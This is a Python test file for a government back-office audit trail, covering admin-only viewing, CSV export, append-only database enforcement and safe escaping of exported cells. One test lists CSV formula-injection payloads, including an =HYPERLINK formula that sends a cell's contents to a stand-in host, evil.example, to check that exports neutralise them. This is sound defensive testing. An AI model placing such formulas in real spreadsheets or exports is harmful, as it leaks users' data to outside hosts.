"""The audit trail: every officer action with before/after, readable by admins, exportable, append-only."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
import sqlalchemy as sa
from flask import Flask

from gateway import regno
from sync.central.backoffice.audit import Actor, csv_cell, record
from sync.central.backoffice.models import audit
from tests.central.conftest import Gateway, central_of
from tests.central.officers import add_officer, citizen, logged_in, login, post
from tests.central.test_backoffice_cases import AT


def test_admin_reads_and_exports_the_trail(app: Flask) -> None:
    admin = logged_in(app, "admin1", "admin")
    assert (
        post(
            admin, "/pengguna", {"username": "wati", "role": "pelaksana", "opd": ""}, "/pengguna"
        ).status_code
        == 400
    )
    post(admin, "/pengaturan/opd", {"code": "dinkes", "name": "Dinas Kesehatan"}, "/pengaturan")
    created = post(
        admin, "/pengguna", {"username": "wati", "role": "pelaksana", "opd": "dinkes"}, "/pengguna"
    )
    assert created.status_code == 200 and "hanya ditampilkan sekali" in created.get_data(as_text=True)
    login(app.test_client(), "wati", "bukan-sandinya-ya")
    page = admin.get("/audit").get_data(as_text=True)
    for action, words in (("login", "Masuk"), ("opd-save", "OPD disimpan"), ("user-add", "Pengguna ditambahkan"),
                          ("login-refused", "Masuk ditolak")):  # fmt: skip
        assert f'<td data-action="{action}">{words}</td>' in page  # words, not the code
    assert "Dinas Kesehatan" in page  # the values after
    only = admin.get("/audit?action=user-add").get_data(as_text=True)
    assert 'data-action="user-add"' in only and 'data-action="opd-save"' not in only
    export = admin.get("/audit.csv")
    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
    assert export.mimetype == "text/csv" and [r["action"] for r in rows][:3] == [
        "login",
        "opd-save",
        "user-add",
    ]
    assert rows[2]["after"] == '{"opd": "dinkes", "role": "pelaksana"}' and rows[2]["username"] == "admin1"
    assert (
        admin.get("/audit?action=audit-export").get_data(as_text=True).count('data-action="audit-export"')
        == 1
    )


def test_only_admins_read_it(app: Flask) -> None:
    for role in ("ppid", "pelaksana", "atasan", "teknisi"):
        client = logged_in(app, f"u-{role}", role, "dinkes" if role == "pelaksana" else None)
        assert client.get("/audit").status_code == 403 and client.get("/audit.csv").status_code == 403


def test_no_route_changes_it_and_the_database_refuses(app: Flask) -> None:
    add_officer(app, "x-admin", "admin")
    login(app.test_client(), "x-admin")
    for rule in app.url_map.iter_rules():
        if "audit" in rule.rule:
            assert rule.methods is not None and rule.methods <= {"GET", "HEAD", "OPTIONS"}, rule
    engine = central_of(app).engine
    with pytest.raises(sa.exc.DatabaseError, match="append-only"), engine.begin() as conn:
        conn.execute(audit.update().values(username="someone-else"))
    with pytest.raises(sa.exc.DatabaseError, match="append-only"), engine.begin() as conn:
        conn.execute(audit.delete())
    with engine.connect() as conn:
        assert conn.execute(sa.select(audit.c.username)).scalars().all() == ["x-admin"]


EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)"]


def _cells(body: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(body)) for c in row]


def _formulas(body: str) -> list[str]:
    return [c for c in _cells(body) if c[:1] in ("=", "+", "-", "@")]


def test_exported_csv_cells_never_start_a_formula(app: Flask, gateway: Gateway) -> None:
    """Cells that would start a spreadsheet formula get a leading ' (CSV injection): the audit's and the
    report's (a complaint's category is the citizen's text)."""
    engine = central_of(app).engine
    with engine.begin() as conn:
        for text in EVIL:
            record(conn, Actor(text, "-", text), "login-refused", text, 0, None, None)
    admin = logged_in(app, "admin1", "admin")
    body = admin.get("/audit.csv").get_data(as_text=True)
    assert _formulas(body) == [] and "'" + EVIL[0] in _cells(body)
    gateway.send("submissions", [citizen(i + 1, "complaint", regno.make("dmk-wonosalam", date(2026, 11, 23), i + 1), AT,
                                         kategori=text) for i, text in enumerate(EVIL)])  # fmt: skip
    report = logged_in(app, "ppid1", "ppid").get("/laporan.csv?tahun=2026").get_data(as_text=True)
    assert _formulas(report) == [] and any(c.startswith("'=HYPERLINK") for c in _cells(report))
    assert [csv_cell(t) for t in EVIL] == ["'" + t for t in EVIL]
    assert csv_cell(-3) == -3 and csv_cell("Dinas") == "Dinas"


def test_replace_and_truncate_cannot_rewrite_the_trail(app: Flask) -> None:
    add_officer(app, "x-admin", "admin")
    login(app.test_client(), "x-admin")
    engine = central_of(app).engine
    with engine.connect() as conn:
        (first,) = conn.execute(sa.select(audit.c.id)).scalars().all()
    if engine.dialect.name == "sqlite":
        with pytest.raises(sa.exc.DatabaseError, match="append-only"), engine.begin() as conn:
            conn.exec_driver_sql(
                "INSERT OR REPLACE INTO bo_audit (id, at_ms, username, role, action, target) "
                f"VALUES ({first}, 0, 'someone-else', 'admin', 'nothing', 'nothing')"
            )
    else:
        with pytest.raises(sa.exc.DatabaseError, match="append-only"), engine.begin() as conn:
            conn.exec_driver_sql("TRUNCATE bo_audit")
    with engine.connect() as conn:
        assert conn.execute(sa.select(audit.c.username)).scalars().all() == ["x-admin"]
    with engine.begin() as conn:  # new rows still go in
        conn.execute(audit.insert().values(at_ms=1, username="sistem", role="system", action="x", target="y"))


def test_the_trail_holds_the_open_data_actions_in_time_order(app: Flask) -> None:
    from sync.central.backoffice import audit as trail
    from sync.central.opendata.tables import audit as opendata_audit

    engine = central_of(app).engine
    with engine.begin() as conn:
        for i in range(700):  # the two tables interleaved in time, more than one page of the CSV export
            record(conn, Actor("admin-ani", "admin"), "opd-save", f"opd:o{i}", 2 * i, None, {"i": i})
            conn.execute(opendata_audit.insert().values(at_ms=2 * i + 1, actor="ppid-budi", action="open311-hide",
                                                        target=f"u{i}", detail='{"reason": "nama"}'))  # fmt: skip
    rows, total = trail.entries(engine)
    assert total == 1400 and [(r["source"], r["at_ms"]) for r in rows[:2]] == [("opendata", 1399),
                                                                            ("backoffice", 1398)]  # fmt: skip
    hidden, count = trail.entries(engine, action="open311-hide", username="ppid-budi")
    assert count == 700 and hidden[0]["after"] == '{"reason": "nama"}' and hidden[0]["role"] is None
    lines = list(csv.reader(io.StringIO("".join(trail.export_csv(engine, str)))))
    assert len(lines) == 1 + 1400 and [int(line[1]) for line in lines[1:]] == list(range(1400))
